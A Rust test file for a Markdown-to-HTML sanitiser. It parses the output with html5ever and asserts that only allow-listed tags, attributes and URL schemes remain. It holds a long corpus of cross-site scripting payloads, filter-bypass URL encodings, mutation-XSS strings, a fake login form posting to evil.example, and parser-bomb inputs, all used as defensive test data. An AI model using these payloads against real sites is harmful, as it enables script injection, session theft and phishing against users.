//! What hostile Markdown becomes: the output is parsed as a browser does, and only what is allowed may be in it.

use std::cell::RefCell;
use std::time::{Duration, Instant};

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagToken, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use portico::text::{markdown_to_html, markdown_to_text};
use proptest::prelude::*;

/// Written down here once more, so that a slip in the allow list itself is noticed.
const ELEMENTS: &str =
    " p br hr h3 h4 h5 h6 strong em del code pre blockquote ul ol li table thead tbody tr th td a ";

#[derive(Default)]
struct Inspector {
    faults: RefCell<Vec<String>>,
    depth: RefCell<(usize, usize)>,
}

impl Inspector {
    fn fault(&self, fault: String) {
        self.faults.borrow_mut().push(fault);
    }
}

impl TokenSink for Inspector {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let tag = match token {
            TagToken(tag) => tag,
            Token::CommentToken(_) | Token::DoctypeToken(_) => {
                self.fault(format!("{token:?}"));
                return TokenSinkResult::Continue;
            }
            _ => return TokenSinkResult::Continue,
        };
        let name = tag.name.as_ref();
        if !ELEMENTS.contains(&format!(" {name} ")) {
            self.fault(format!("element {name}"));
        }
        {
            let mut depth = self.depth.borrow_mut();
            match tag.kind {
                html5ever::tokenizer::StartTag if !matches!(name, "br" | "hr") => depth.0 += 1,
                html5ever::tokenizer::EndTag => depth.0 -= 1,
                html5ever::tokenizer::StartTag => {}
            }
            depth.1 = depth.1.max(depth.0);
        }
        for attribute in &tag.attrs {
            let (attribute, value) = (attribute.name.local.as_ref(), attribute.value.as_ref());
            let allowed = match (name, attribute) {
                ("a", "href") => url::Url::parse(value).is_ok_and(|url| {
                    matches!(url.scheme(), "http" | "https" | "mailto") && url.username().is_empty()
                }),
                ("a", "rel") => value == "noopener noreferrer nofollow",
                ("a", "target") => value == "_blank",
                ("ol", "start") => value.parse::<u64>().is_ok(),
                ("th" | "td", "align") => matches!(value, "left" | "center" | "right"),
                _ => false,
            };
            if !allowed {
                self.fault(format!("{name} {attribute}={value:?}"));
            }
        }
        let has = |wanted: &str| tag.attrs.iter().any(|a| &*a.name.local == wanted);
        if name == "a" && has("href") && !(has("rel") && has("target")) {
            self.fault("a link without rel and target".to_owned());
        }
        TokenSinkResult::Continue
    }
}

/// Every way in which `html` is more than it may be.
fn faults(html: &str) -> Vec<String> {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Inspector::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    let mut faults = tokenizer.sink.faults.take();
    let deepest = tokenizer.sink.depth.borrow().1;
    if deepest > 80 {
        faults.push(format!("nested {deepest} deep"));
    }
    faults
}

/// Cross-site scripting's classics, in Markdown and out of it, and what parsers of Markdown got wrong before.
const CORPUS: &[&str] = &[
    // Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/xss src=//evil.example></script>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=`javascript:alert(1)`>",
    "<img/src/onerror=alert(1)>",
    "<img src='jav\tascript:alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=\"javascript:/a/..//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/p.gif)}</style>",
    "<p style=\"position:fixed;inset:0;z-index:9999\">log in again</p>",
    "<div style=\"background:url(https://evil.example/p.gif)\">x</div>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><input name=password type=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=https://ok.example onclick=alert(1)>x</a>",
    "<a id=\"cookie\" name=\"getElementById\" class=\"button primary\">clobber</a>",
    "<template><script>alert(1)</script></template>",
    "<portal src=//evil.example></portal>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?php echo 1 ?>",
    "<!DOCTYPE html><html><head><title>x</title></head>",
    "</p></div></body></html><script>alert(1)</script>",
    "<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>",
    "<custom-element onpointerover=alert(1)>x</custom-element>",
    // Mutation: what changes its meaning when it is parsed a second time
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<table><td><a><table><td></a><img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1) class=\"x\nx\n```",
    "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
    // Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java\u{0}script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](\u{a0}javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](javascript://example.com/%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VbScRiPt:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ok.example/1)",
    "[x](view-source:https://ok.example)",
    "[x](ms-msdt:/id%20PCWDiagnostic)",
    "[x](tel:+491234)",
    "[x](ftp://ok.example/x)",
    "[x](/logout)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\share)",
    "[x](#top)",
    "[x](?a=b)",
    "[x]()",
    "[x](https://)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://user:secret@evil.example/)",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "[x](https://ok.example/ 'title\"onmouseover=\"alert(1)')",
    "[x](https://ok.example/ \"<script>alert(1)</script>\")",
    "[x](<https://ok.example/\" onmouseover=alert(1) x=\">)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <javascript:alert(1)> \"t\"",
    "[r]\n\n[r]: data:text/html,x",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<https://ok.example/\"onmouseover=alert(1)>",
    "javascript:alert(1)",
    "www.ok.example\"onmouseover=\"alert(1)",
    "https://ok.example/'onmouseover='alert(1)",
    "www.ok.example/<script>alert(1)</script>",
    "<a@b.example\"onclick=alert(1)>",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[a [b](https://x.example) c](https://y.example)",
    // Pictures
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![\"onerror=\"alert(1)](https://ok.example/p.png)",
    "![x](https://ok.example/p.png\"onerror=\"alert(1))",
    "![<script>alert(1)</script>](https://ok.example/p.png)",
    "[![x](https://a.example/p.png)](https://b.example)",
    "![x][p]\n\n[p]: https://evil.example/pixel.gif",
    // GFM
    "| <script>alert(1)</script> | x |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a |\n|---|\n| \" onclick=\"alert(1) |",
    "- [x] <script>alert(1)</script>",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "~~<script>alert(1)</script>~~",
    "# <script>alert(1)</script>",
    "# x {#id .class onclick=alert(1)}",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    ":::note\n<script>alert(1)</script>\n:::",
    "---\ntitle: <script>\n---\n",
    "99999999999999999999. x",
    "0. x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\u{0}<script>\u{0}alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<script>\u{2028}alert(1)</script>",
    "<a\u{c}href=javascript:alert(1)>x",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
];

#[test]
fn nothing_but_the_allowed_is_left_of_hostile_text() {
    assert!(CORPUS.len() >= 60);
    for hostile in CORPUS {
        // Alone, and where it stands within other things.
        for text in [
            (*hostile).to_owned(),
            format!("before {hostile} after"),
            format!("> {hostile}\n> - {hostile}"),
            format!("**{hostile}**\n\n# {hostile}\n\n1. {hostile}"),
            format!("| a |\n|---|\n| {hostile} |"),
            format!("[{hostile}](https://ok.example)"),
            format!("![{hostile}](https://ok.example/p.png)"),
            format!("<div>\n{hostile}\n</div>\n\n{hostile}"),
        ] {
            let html = markdown_to_html(&text);
            assert_eq!(faults(&html), [""; 0], "{text:?} became {html}");
        }
    }
}

#[test]
fn raw_html_is_shown_as_the_text_it_is() {
    assert_eq!(
        markdown_to_html("a <b>c</b>"),
        "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n"
    );
    assert_eq!(
        markdown_to_html("<script>\nalert(1)\n</script>"),
        "<p>&lt;script&gt;\nalert(1)\n&lt;/script&gt;</p>\n"
    );
}

/// Texts that made other parsers quadratic or worse, or their stack overflow.
fn bombs(size: usize) -> Vec<(&'static str, String)> {
    let nested = |open: &str, close: &str| format!("{}x{}", open.repeat(size), close.repeat(size));
    let mut bombs: Vec<(&'static str, String)> = [
        ">",
        "> ",
        "[",
        "![",
        "]",
        "(",
        ")",
        "*",
        "_",
        "**",
        "~~",
        "`",
        "``` ",
        "<",
        "</",
        "<!",
        "<!--",
        "<a ",
        "<?",
        "&",
        "&#",
        "§",
        "\u{a0}x",
        "\\",
        "|",
        "| ",
        "|-",
        "- ",
        "* ",
        "1. ",
        "1) ",
        "# ",
        "+ ",
        "\t",
        "    ",
        "a@",
        "www.",
        "http://",
        "https://a.b",
        "mailto:",
        "[](",
        "[a](<b",
        "[a](b",
        "*a_ ",
        "a**b",
        "*a **a ",
        "a***b",
        "~",
        "- x\n",
        "> x\n",
        "[x]: y\n",
        "[^x]",
        "![[]()",
        "`a``b",
        "<x y='",
        "\"",
        "é",
        "👍",
        "[a]",
        "**x [a*b**c*](d)",
        "_a*b",
        "x\n===\n",
        "|x|\n|-|\n",
        "&amp;",
        "<![CDATA[",
        "- [ ] ",
    ]
    .iter()
    .map(|piece| (*piece, piece.repeat(size)))
    .collect();
    bombs.extend([
        ("brackets", nested("[", "]")),
        ("links", nested("[", "](https://x.example)")),
        ("pictures", nested("![", "](https://x.example)")),
        ("emphasis", nested("*a ", " a*")),
        ("strong", nested("**a ", " a**")),
        ("strikethrough", nested("~~a ", " a~~")),
        ("html", nested("<div>\n", "</div>\n")),
        (
            "code spans",
            (1..(2 * size).isqrt())
                .map(|n| format!("x{}", "`".repeat(n)))
                .collect(),
        ),
        (
            "lists in lists",
            (0..(2 * size).isqrt())
                .map(|n| format!("{}- x\n", "  ".repeat(n)))
                .collect(),
        ),
        (
            "quotes, lazily",
            format!("{}x\n{}", ">".repeat(size), "y\n".repeat(size)),
        ),
        (
            "references",
            format!(
                "[a]: https://x.example/{}\n\n{}",
                "y".repeat(size),
                "[a]".repeat(size)
            ),
        ),
        (
            "wide table",
            format!(
                "{}\n{}\n{}",
                "|a".repeat(size),
                "|-".repeat(size),
                "|b\n".repeat(size)
            ),
        ),
        ("unclosed quote", format!("<a href=\"{}", "x ".repeat(size))),
        ("one word", "x".repeat(size * 10)),
    ]);
    bombs
}

#[test]
fn time_and_output_grow_with_the_length() {
    for (name, bomb) in bombs(10_000) {
        let start = Instant::now();
        let html = markdown_to_html(&bomb);
        let text = markdown_to_text(&bomb);
        let took = start.elapsed();
        // Far above what is needed without optimisation, far below what anything quadratic takes.
        println!("{name:?}: {} bytes took {took:?}", bomb.len());
        assert!(took < Duration::from_secs(5), "{name:?} took {took:?}");
        let most = bomb.len() * 150 + 1_000;
        assert!(
            html.len() < most && text.len() < most,
            "{name:?}: {} became {}",
            bomb.len(),
            html.len()
        );
        assert_eq!(faults(&html), [""; 0], "{name:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn no_mixture_breaks_out(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..30)) {
        let text = pieces.concat();
        let html = markdown_to_html(&text);
        prop_assert_eq!(faults(&html), [""; 0], "{:?} became {}", text, html);
        let _ = markdown_to_text(&text);
    }

    #[test]
    fn nothing_that_can_be_typed_makes_it_panic(text in any::<String>()) {
        prop_assert_eq!(faults(&markdown_to_html(&text)), [""; 0]);
        let _ = markdown_to_text(&text);
    }
}

const PIECES: &[&str] = &[
    "<",
    ">",
    "\"",
    "'",
    "`",
    "```",
    "*",
    "_",
    "~~",
    "[",
    "]",
    "(",
    ")",
    "!",
    "![",
    "](",
    "\n",
    "\n\n",
    "    ",
    "\t",
    "- ",
    "1. ",
    "> ",
    "# ",
    "|",
    "|-|-|\n",
    "- [ ] ",
    "javascript:",
    "data:text/html,",
    "https://x.example/",
    "www.x.example",
    "<script>",
    "</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<!--",
    "-->",
    "&lt;",
    "&#x3c;",
    "&colon;",
    "\\",
    "onclick=alert(1)",
    "a",
    " ",
    "[r]: ",
    "[r]",
    "<a href=",
    "</a>",
    "\u{0}",
    "é",
    "<style>",
    "</style>",
    "<noscript>",
    "<math>",
    "<title>",
    "<textarea>",
    "<table>",
    "</p>",
    "<br>",
    "style=",
    "=",
    "---\n",
    "===\n",
    "<![CDATA[",
    "]]>",
];
